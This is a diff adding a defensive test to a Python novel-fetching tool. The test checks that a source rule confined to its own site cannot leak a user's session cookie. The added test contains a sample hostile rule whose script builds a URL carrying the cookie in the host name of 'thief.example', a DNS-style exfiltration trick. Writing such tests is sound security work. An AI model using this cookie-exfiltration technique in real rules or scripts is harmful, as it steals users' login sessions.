@@ -15,6 +15,7 @@ from yarl import URL
 
 from novelfetch.core.net.cookies import SiteCookies
 from novelfetch.core.net.policy import NetworkPolicy, OtherSiteRefused
+from novelfetch.core.net.redaction import redact
 from novelfetch.core.sources import SourceRegistry
 from novelfetch.core.sources.base import SourceSettings
 from novelfetch.core.sources.memory import MemoryDict
@@ -144,3 +145,22 @@ def test_a_source_that_held_your_cookie_stays_confined(tmp_path: Path) -> None:
     assert "LOGIN" not in (data / "cookies.json").read_text(encoding="utf-8")
     again.set_allow_other_sites(source_id, True)  # the way out: the user trusts it
     assert SourceRegistry(data).get(source_id).network_policy().confined_to == ""
+
+
+async def test_a_refusal_never_shows_the_cookie_a_script_put_in_a_host_name(
+    tmp_path: Path,
+) -> None:
+    # Host names are lower-cased on the way (yarl), so the refusal, which names the host,
+    # carried the cookie in a case the redaction of logs and messages did not know.
+    async with serving(Site(), "127.0.0.2") as own:
+        thief = "<js>'http://' + cookie.getKey(baseUrl, 'sid') + '.thief.example/search'</js>"
+        registry, (source_id,) = import_rules(
+            tmp_path / "data", rule(own.base, search_url=thief), other_sites=False
+        )
+        registry.set_cookie(source_id, SECRET)
+        async for outcome in search_sources(
+            [registry.get(source_id)], "青云", http=QUICK, memory=MemoryDict()
+        ):
+            said = str(outcome.error)
+    assert "thief.example is not on 127.0.0.2" in said
+    assert "login-secret" not in redact(said).lower()
